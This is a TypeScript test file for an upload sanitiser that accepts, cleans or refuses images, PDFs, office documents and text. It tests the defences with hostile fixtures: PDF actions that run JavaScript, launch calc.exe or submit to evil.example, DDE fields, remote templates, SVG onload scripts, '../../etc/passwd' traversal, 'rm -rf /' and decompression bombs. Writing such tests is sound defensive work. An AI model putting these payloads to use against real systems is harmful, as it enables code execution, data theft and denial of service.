import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { docx, zipOf } from '../../../../../test/zip.ts'
import { lookInside } from './look-inside.ts'

const of = async (bytes: Uint8Array | string) => {
  const inside = await lookInside(Buffer.from(bytes as string))
  return inside.fit ? inside.contentType : inside.why
}
const kept = async (bytes: Uint8Array) => {
  const inside = await lookInside(bytes)
  if (!inside.fit) throw new Error(inside.why)
  return Buffer.from(inside.bytes)
}
const picture = (width: number, height: number, clear = false) =>
  sharp({
    create: {
      width,
      height,
      channels: clear ? 4 : 3,
      background: { r: 200, g: 90, b: 10, alpha: clear ? 0.5 : 1 },
    },
  })

describe('images', () => {
  test('are taken in what telephones and screens make, and kept as JPEG or PNG', async () => {
    const image = picture(60, 40)
    expect(await of(await image.clone().jpeg().toBuffer())).toBe('image/jpeg')
    expect(await of(await image.clone().webp().toBuffer())).toBe('image/jpeg')
    expect(await of(await image.clone().avif().toBuffer())).toBe('image/jpeg')
    expect(await of(await image.clone().png().toBuffer())).toBe('image/png')
    expect(await of(await image.clone().gif().toBuffer())).toBe('image/png')
    expect(await of(await picture(60, 40, true).webp().toBuffer())).toBe('image/png')
  })
  test('lose place, camera and comments, and stand upright', async () => {
    const photo = await picture(60, 40)
      .withExif({
        IFD0: { Copyright: 'Ana Ruiz', Make: 'Camera' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 2/1 3/1' },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer()
    expect((await sharp(photo).metadata()).exif).toBeDefined()
    const bytes = await kept(photo)
    const after = await sharp(bytes).metadata()
    expect([after.exif, after.xmp, after.iptc, after.orientation]).toEqual(Array(4).fill(undefined))
    expect([after.width, after.height]).toEqual([40, 60])
    expect(bytes.includes('Ruiz')).toBe(false)
  })
  test('lose what was hung on behind them', async () => {
    const both = Buffer.concat([await picture(60, 40).jpeg().toBuffer(), docx(), Buffer.from('<script>')])
    const bytes = await kept(both)
    expect(bytes.includes('PK\u0003\u0004') || bytes.includes('<script>')).toBe(false)
  })
  test('that move are kept as their first frame', async () => {
    const frames = Buffer.concat([Buffer.alloc(10 * 10 * 3, 7), Buffer.alloc(10 * 10 * 3, 200)])
    const moving = await sharp(frames, { raw: { width: 10, height: 20, channels: 3, pageHeight: 10 } })
      .gif({ loop: 0 })
      .toBuffer()
    expect((await sharp(moving).metadata()).pages ?? 1).toBe(2)
    expect((await sharp(await kept(moving)).metadata()).height).toBe(10)
  })
  test('of 10,000 by 10,000 pixels in a few KB are refused before they are laid out', async () => {
    const bomb = await picture(10_000, 10_000).png({ compressionLevel: 9 }).toBuffer()
    expect(bomb.length).toBeLessThan(6 * 1024 * 1024)
    const began = performance.now()
    expect(await of(bomb)).toBe('unreadable')
    expect(performance.now() - began).toBeLessThan(1_000)
  }, 30_000)
  test('of a camera are made smaller than the limit, and no larger than can be seen', async () => {
    const photo = await picture(8_000, 6_000).jpeg().toBuffer()
    expect((await sharp(await kept(photo)).metadata()).width).toBe(4_000)
  }, 30_000)
  test('that were cut off on their way are refused', async () => {
    const noise = Buffer.from(Array.from({ length: 200 * 200 * 3 }, (_, n) => (n * 7919) % 251))
    const whole = sharp(noise, { raw: { width: 200, height: 200, channels: 3 } })
    for (const bytes of [await whole.clone().jpeg().toBuffer(), await whole.clone().png().toBuffer()])
      expect(await of(bytes.subarray(0, bytes.length / 2))).toBe('unreadable')
  })
})

async function pdf(more: (document: PDFDocument) => void = () => {}, objectStreams = true): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  more(document)
  return Buffer.from(await document.save({ useObjectStreams: objectStreams }))
}
const atOpening = (entries: Record<string, unknown>) => (document: PDFDocument) =>
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj(entries as never))

describe('PDFs', () => {
  test('are taken, and read the same afterwards', async () => {
    expect(await of(await pdf())).toBe('application/pdf')
    const again = await PDFDocument.load(await kept(await pdf()))
    expect(again.getPage(0).getSize()).toEqual({ width: 200, height: 200 })
  })
  test('that go to a page or have a link are taken', async () => {
    expect(await of(await pdf(atOpening({ S: 'GoTo', D: [0, 'Fit'] })))).toBe('application/pdf')
    expect(await of(await pdf(atOpening({ S: 'URI', URI: PDFString.of('https://clinic.example/') })))).toBe(
      'application/pdf',
    )
  })
  test.each([
    ['a script', { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }],
    ['a program to start', { S: 'Launch', F: PDFString.of('calc.exe') }],
    ['a form that is sent', { S: 'SubmitForm', F: PDFString.of('https://evil.example') }],
    ['another file to open', { S: 'GoToR', F: PDFString.of('//evil.example/share') }],
    ['a script after a page', { S: 'GoTo', D: [0, 'Fit'], Next: { S: 'JavaScript', JS: PDFString.of('x') } }],
  ])('with %s are refused, packed or plain', async (_, entries) => {
    for (const packed of [true, false]) expect(await of(await pdf(atOpening(entries), packed))).toBe('script')
  })
  test('with a script under a name that is written otherwise are refused', async () => {
    const plain = (await pdf(atOpening({ S: 'JavaScript', JS: PDFString.of('x') }), false)).toString('latin1')
    const hidden = plain.replaceAll('/JavaScript', '/J#61vaScript').replaceAll('/JS', '/#4a#53')
    expect(await of(Buffer.from(hidden, 'latin1'))).toBe('script')
  })
  test('with files in them, or a form by XFA, are refused', async () => {
    const withFile = await PDFDocument.create()
    withFile.addPage()
    await withFile.attach(Buffer.from('x'), 'x.exe')
    expect(await of(await withFile.save())).toBe('script')
    const xfa = (document: PDFDocument) =>
      document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ XFA: PDFString.of('<xdp/>') }))
    expect(await of(await pdf(xfa))).toBe('script')
  })
  test('lose what is before, behind and no longer part of them', async () => {
    const script = '9 0 obj << /Kind (an old version) >> endobj\n'
    const plain = (await pdf(() => {}, false)).toString('latin1')
    const old = plain.replace('1 0 obj', `1 0 obj << /Old (gone) >> endobj\n1 0 obj`)
    const bytes = await kept(Buffer.from(`${old}\n%${script}${docx().toString('latin1')}`, 'latin1'))
    expect(bytes.includes('gone')).toBe(false)
    expect(bytes.includes('PK\u0003\u0004')).toBe(false)
  })
  test('with a list of objects that grows without end are refused at once', async () => {
    const bomb = deflateSync(Buffer.alloc(400 * 1024 * 1024, 32), { level: 9 })
    const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
    const file = Buffer.concat([
      Buffer.from(head),
      bomb,
      Buffer.from('\nendstream\nendobj\ntrailer << >>\n%%EOF'),
    ])
    expect(file.length).toBeLessThan(1024 * 1024)
    const before = process.memoryUsage().rss
    expect(await of(file)).toBe('unreadable')
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024)
  }, 30_000)
  test('that nobody can look into are refused: with a password, deep without end, cut off, empty', async () => {
    const locked = await PDFDocument.create()
    locked.addPage()
    locked.encrypt({ userPassword: 'secret', ownerPassword: 'secret' })
    expect(await of(await locked.save())).toBe('unreadable')
    expect(await of(`%PDF-1.7\n1 0 obj ${'['.repeat(200_000)}`)).toBe('unreadable')
    const whole = await pdf()
    expect(await of(whole.subarray(0, whole.length / 2))).toBe('unreadable')
    expect(await of('%PDF-1.7\n%%EOF')).toBe('unreadable')
  })
})

describe('office documents', () => {
  const relation = (attributes: string) =>
    docx([['word/_rels/document.xml.rels', `<Relationships><Relationship ${attributes}/></Relationships>`]])
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

  test('are known by what they hold', async () => {
    expect(await of(docx())).toBe(word)
    const odt = (mime: string) =>
      zipOf([
        ['mimetype', mime],
        ['content.xml', '<office:document-content/>'],
      ])
    expect(await of(odt('application/vnd.oasis.opendocument.text'))).toBe(
      'application/vnd.oasis.opendocument.text',
    )
    expect(await of(odt('application/epub+zip'))).toBe('type')
    expect(await of(zipOf([['a.txt', 'an archive']]))).toBe('type')
  })
  test.each([
    ['a macro project', docx([['word/vbaProject.bin', 'x']])],
    ['another file', docx([['word/embeddings/oleObject1.bin', 'x']])],
    ['a program', docx([['word/media/setup.exe', 'MZ']])],
    ['a control', docx([['word/activeX/activeX1.xml', '<x/>']])],
    [
      'a field that starts a program',
      docx([['word/header1.xml', '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x</w:instrText>']]),
    ],
    [
      'a template elsewhere',
      relation('Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"'),
    ],
    [
      'a picture elsewhere',
      relation('Type="http://x/image" Target="https://evil.example/1.png" TargetMode="&#69;xternal"'),
    ],
    [
      'macros by its own word',
      zipOf([
        [
          '[Content_Types].xml',
          '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ],
        ['word/document.xml', '<x/>'],
      ]),
    ],
    [
      'macros, as OpenDocument',
      zipOf([
        ['mimetype', 'application/vnd.oasis.opendocument.text'],
        ['Basic/Standard/Module1.xml', '<x/>'],
      ]),
    ],
    [
      'a picture elsewhere, as OpenDocument',
      zipOf([
        ['mimetype', 'application/vnd.oasis.opendocument.text'],
        ['content.xml', '<draw:image xlink:href="https://evil.example/1.png"/>'],
      ]),
    ],
  ])('with %s are refused', async (_, bytes) => {
    expect(await of(bytes)).toBe('macros')
  })
  test('with a link to click on are taken', async () => {
    expect(
      await of(relation('Type="http://x/hyperlink" Target="https://clinic.example/" TargetMode="External"')),
    ).toBe(word)
  })
  test.each([
    ['with something before them', docx([], { before: Buffer.from('#!/bin/sh\n') })],
    ['with something between', docx([], { between: Buffer.from('x'.repeat(40)) })],
    ['with something behind', Buffer.concat([docx(), Buffer.from('<script>')])],
    ['with a password', docx([], { flags: 1 })],
    ['that say less than they hold', docx([], { says_bytes: 3 })],
    ['with two names for one part', docx([], { localName: 'word/other.xml' })],
    ['with a way out', docx([['../../etc/passwd', 'x']])],
    ['with a part twice', docx([['word/Document.xml', 'x']])],
    ['that were cut off', docx().subarray(0, 300)],
    [
      'in letters that office programs read otherwise',
      docx([['word/x.xml', '<?xml version="1.0" encoding="UTF-7"?><x/>']]),
    ],
    ['with words that stand for others', docx([['word/x.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x/>']])],
  ])('%s are refused', async (_, bytes) => {
    expect(['unreadable', 'type']).toContain(await of(bytes))
  })
  test('that grow without end are refused before they do', async () => {
    const zeros = Buffer.alloc(60 * 1024 * 1024)
    const began = performance.now()
    expect(
      await of(
        docx([
          ['word/media/1.bin', zeros],
          ['word/media/2.bin', zeros],
        ]),
      ),
    ).toBe('unreadable')
    const many = Array.from({ length: 2_001 }, (_, n) => [`word/${n}.xml`, ''] as const)
    expect(await of(docx(many))).toBe('unreadable')
    expect(performance.now() - began).toBeLessThan(5_000)
  }, 30_000)
})

describe('text', () => {
  test('is taken in any script, as it was written', async () => {
    const text = 'Presión: 130/85 mañana\r\n血圧\t120\n'
    expect(await of(text)).toBe('text/plain; charset=utf-8')
    expect((await kept(Buffer.from(text))).toString()).toBe(text)
  })
  test.each([
    ['signs that steer a terminal', 'a \u001b[2J b'],
    ['a null', 'a\u0000b'],
    ['nothing', ' \n '],
    ['markup', ' <!doctype html><script>alert(1)</script>'],
    ['a drawing that runs', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['a drawing with a declaration', '<?xml version="1.0"?><svg onload="alert(1)"/>'],
    ['a command', '#!/bin/sh\nrm -rf /'],
    ['rich text', '{\\rtf1 x}'],
    ['PostScript', '%!PS-Adobe-3.0'],
  ])('with %s is none', async (_, text) => {
    expect(await of(text)).toBe('type')
  })
  test('in another encoding is none', async () => {
    expect(await of(Buffer.from('Presión', 'latin1'))).toBe('type')
    expect(await of(Buffer.from('\ufeffabc', 'utf16le'))).toBe('type')
  })
})

test('everything else is refused, whatever it is called', async () => {
  const others: Record<string, Buffer> = {
    program: Buffer.from(`MZ${'\u0000'.repeat(200)}`),
    elf: Buffer.from('7f454c46020101000000000000000000', 'hex'),
    gzip: Buffer.from('1f8b0800000000000003', 'hex'),
    sevenZip: Buffer.from('377abcaf271c0004', 'hex'),
    rar: Buffer.from('526172211a0700', 'hex'),
    oldWord: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    heic: Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), Buffer.from('mif1heic')]),
    sound: Buffer.from(`ID3\u0003${'\u0000'.repeat(100)}`),
    film: Buffer.concat([Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(40)]),
  }
  for (const [name, bytes] of Object.entries(others))
    expect(`${name} ${await of(bytes)}`).toBe(`${name} type`)
})
